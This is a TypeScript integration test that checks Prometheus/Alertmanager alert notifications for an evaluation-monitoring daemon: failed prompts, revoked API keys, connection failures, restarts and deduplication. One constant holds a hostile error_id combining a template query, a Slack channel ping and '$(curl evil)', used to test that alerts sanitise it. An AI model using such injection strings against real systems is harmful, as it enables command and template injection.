import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FILES_ADDRESS } from '../../scripts/repository.ts';
import { debianTool } from '../support/debian-tool.ts';
import { sleep } from '../support/evalwatch.ts';
import { type AlertingStack, startAlerting } from './alerting-stack.ts';
import { PATIENCE } from './server.ts';

const prometheus = debianTool('prometheus', 'prometheus');
const alertmanager = debianTool(
  'prometheus-alertmanager',
  'prometheus-alertmanager',
  'alertmanager',
);
/** Their prompts fail one by one. */
const FAILING = Array.from({ length: 10 }, (_, index) => `failing-${index}`);
/** An error_id of a hostile service. */
const HOSTILE = '1. First run {{ query "up" }}\n<!channel> $(curl evil)';
const PROJECTS = ['checkout-bot', 'search-ranking', 'key-incident', 'support-triage', ...FAILING];

// In CI a missing program fails the tests instead of skipping them.
const runs = (prometheus && alertmanager) !== undefined || process.env['CI'] === 'true';

describe.runIf(runs)('alert notifications', { timeout: 300_000 }, () => {
  let stack: AlertingStack;

  beforeAll(async () => {
    if (prometheus === undefined || alertmanager === undefined) {
      throw new Error('Prometheus and Alertmanager are not installed');
    }
    stack = await startAlerting({ prometheus, alertmanager }, PROJECTS);
  }, 180_000);

  afterAll(async () => {
    await stack?.[Symbol.asyncDispose]();
  }, 30_000);

  it('of a failed prompt name the project and the cause', async () => {
    stack.failPrompt('checkout-bot', { error_id: 'OUTPUT_PARSE_ERROR', error_msg: 'no JSON' });
    const page = await stack.webhook.page('firing', 'EvalwatchPromptFailed');
    expect(page).toMatchObject({
      receiver: 'warning',
      labels: { project: 'checkout-bot', severity: 'warning' },
      annotations: {
        summary: expect.stringContaining('checkout-bot'),
        description: expect.stringContaining('checkout-bot'),
        runbook_url: `${FILES_ADDRESS}/docs/runbooks/EvalwatchPromptFailed.md`,
      },
    });
    // The first page can come before the error_info.
    await expect
      .poll(() => stack.description('EvalwatchPromptFailed', 'checkout-bot'), PATIENCE)
      .toContain(': OUTPUT_PARSE_ERROR 1. ');
  });

  it('arrive for each of 10 failures, with polls, scrapes and rules every second', async () => {
    const pages = await Promise.all(
      FAILING.map(async (project, index) => {
        // Spreads the failures over the second.
        await sleep(index * 430);
        stack.failPrompt(project);
        return await stack.webhook.page('firing', 'EvalwatchPromptFailed', { project });
      }),
    );
    expect(pages.map(({ receiver }) => receiver)).toEqual(FAILING.map(() => 'warning'));
  });

  it('of a revoked API key name the project, and resolve when the key is restored', async () => {
    const project = 'search-ranking';
    stack.revokeKey(project);
    const page = await stack.webhook.page('firing', 'EvalwatchAuthFailing');
    expect(page).toMatchObject({
      receiver: 'critical',
      labels: { project, severity: 'critical' },
      annotations: { description: expect.stringContaining(project) },
    });
    stack.giveKeyBack(project);
    const resolved = await stack.webhook.page('resolved', 'EvalwatchAuthFailing');
    expect(resolved.labels).toEqual(page.labels);
  });

  it('of a project with a restored API key report only its new problem', async () => {
    const project = 'key-incident';
    stack.revokeKey(project);
    await stack.webhook.page('firing', 'EvalwatchAuthFailing', { project });
    stack.giveKeyBack(project);
    const repaired = await stack.webhook.page('resolved', 'EvalwatchAuthFailing', { project });
    stack.breakConnections(project);
    const page = await stack.webhook.page('firing', 'EvalwatchProjectPollFailing', { project });
    expect(page).toMatchObject({ receiver: 'warning', labels: { project, severity: 'warning' } });
    const since = stack.webhook.pages.filter(
      ({ at, labels }) => at > repaired.at && labels['project'] === project,
    );
    expect(since).toEqual([page]);
    stack.mendConnections();
    await stack.webhook.page('resolved', 'EvalwatchProjectPollFailing', { project });
  });

  it('report a stopped daemon, and after its restart the prompt that failed meanwhile', async () => {
    const stoppedAt = performance.now();
    await stack.stopDaemon();
    const project = 'support-triage';
    stack.endFirstDay();
    stack.failPrompt(project, { error_id: HOSTILE, error_msg: 'no' });
    const page = await stack.webhook.page('firing', 'EvalwatchDown', { after: stoppedAt });
    expect(page).toMatchObject({ receiver: 'critical', labels: { severity: 'critical' } });
    await stack.startDaemon();
    await stack.webhook.page('resolved', 'EvalwatchDown', { after: page.at });
    await stack.webhook.page('firing', 'EvalwatchPromptFailed', { project, after: page.at });
    const cause = await stack.webhook.page('firing', 'EvalwatchNewFailureCause', { project });
    const shown = '1._First_run_query_up_n_channel_curl_evil_';
    expect(cause).toMatchObject({
      receiver: 'info',
      labels: { project, severity: 'info', error_id: HOSTILE.replace('\n', String.raw`\n`) },
      annotations: { summary: `Prompts of project ${project} fail with a new error_id: ${shown}` },
    });
    expect(cause.annotations['description']).toMatch(
      /^The error_id \S+ of project support-triage was .*; failures with it so far: 1\. First run evalwatch causes --project support-triage/,
    );
    await expect
      .poll(() => stack.description('EvalwatchPromptFailed', project), PATIENCE)
      .toContain(`; 1 failed within the last 15 minutes: ${shown} 1. `);
  });

  // Runs last, so that it sees late duplicates of all tests above.
  it('of failed prompts arrive only once, also when the daemon restarts', () => {
    // People who are paged twice for one failure stop reading.
    const projects = stack.webhook.pages
      .filter(
        ({ status, labels }) =>
          `${status} ${labels['alertname']}` === 'firing EvalwatchPromptFailed',
      )
      .map(({ labels }) => labels['project'] ?? '');
    expect(projects.toSorted()).toEqual(['checkout-bot', ...FAILING, 'support-triage']);
  });
});
